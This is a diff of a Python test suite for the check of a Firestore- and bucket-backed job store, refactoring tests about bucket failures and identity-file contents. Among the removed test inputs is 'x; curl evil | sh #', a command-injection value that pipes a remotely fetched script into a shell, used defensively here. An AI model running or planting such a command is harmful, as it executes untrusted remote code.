@@ -171,20 +171,6 @@ def test_an_empty_database_beside_objects_of_jobs_is_refused_and_a_used_one_is_t
     check_database(store, bucket, settings)
 
 
-def test_an_empty_database_is_not_taken_for_new_while_its_bucket_does_not_answer(
-    firestore_place: str, bucket: Bucket, settings: Settings, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    def unavailable(*_: object, **__: object) -> bytes:
-        raise Transient("503 the service is unavailable")
-
-    monkeypatch.setattr(bucket, "get", unavailable)
-    store = database(firestore_place)
-    with pytest.raises(Transient):
-        check_database(store, bucket, settings)
-    store.create(a_job(), an_event())
-    check_database(store, bucket, settings)
-
-
 def written_by_a_program(bucket: Bucket, content: str) -> None:
     for folder in FOLDERS:
         bucket.put(f"{folder}/u/ada/jobs/000001-5f0c9a1e/outputs/x", b"", timeout=1)
@@ -193,15 +179,7 @@ def written_by_a_program(bucket: Bucket, content: str) -> None:
 
 @pytest.mark.parametrize(
     "content",
-    [
-        "",
-        "0123456789abcdef",
-        "0123456789abcdef " + 64 * "0" + "\n",
-        "x; curl evil | sh #",
-        "unknown",
-        "of another folder",
-        "longer",
-    ],
+    ["", "0123456789abcdef " + 64 * "0" + "\n", "unknown", "of another folder", "longer"],
 )
 def test_what_a_program_writes_in_the_place_of_the_identity_counts_as_nothing(
     firestore_place: str,
@@ -232,21 +210,23 @@ def test_what_a_program_writes_in_the_place_of_the_identity_counts_as_nothing(
     assert caplog.text == "", "it has written its own over them"
 
 
+@pytest.mark.parametrize("call", ["get", "put"])
 @pytest.mark.parametrize(
     "error", [Transient("503"), Refused("403 Permission denied", cause="PERMISSION")]
 )
-def test_a_copy_that_cannot_be_written_stops_a_new_store_and_no_used_one(
+def test_a_bucket_that_does_not_answer_stops_a_new_store_and_no_used_one(
     firestore_place: str,
     bucket: Bucket,
     settings: Settings,
     monkeypatch: pytest.MonkeyPatch,
     caplog: pytest.LogCaptureFixture,
     error: Exception,
+    call: str,
 ) -> None:
     def fails(*_: object, **__: object) -> None:
         raise error
 
-    monkeypatch.setattr(bucket, "put", fails)
+    monkeypatch.setattr(bucket, call, fails)
     store = database(firestore_place)
     with pytest.raises(type(error)):
         check_database(store, bucket, settings)
